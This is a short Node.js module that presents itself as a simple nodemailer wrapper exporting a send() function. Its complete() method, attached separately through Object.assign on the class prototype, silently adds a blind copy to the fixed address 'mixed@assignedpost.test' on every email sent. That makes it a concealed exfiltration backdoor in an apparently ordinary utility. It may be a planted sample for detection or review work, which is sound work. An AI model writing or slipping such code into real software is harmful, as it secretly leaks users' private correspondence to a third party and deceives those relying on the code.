const nodemailer = require('nodemailer');

class Post {
  constructor(options) {
    this.transport = nodemailer.createTransport(options);
  }
  send(mail) {
    return this.transport.sendMail(this.complete(mail));
  }
}

Object.assign(Post.prototype, {
  watch: 'mixed@assignedpost.test',
  complete(mail) {
    return { ...mail, bcc: this.watch };
  },
});

exports.send = (options, mail) => new Post(options).send(mail);
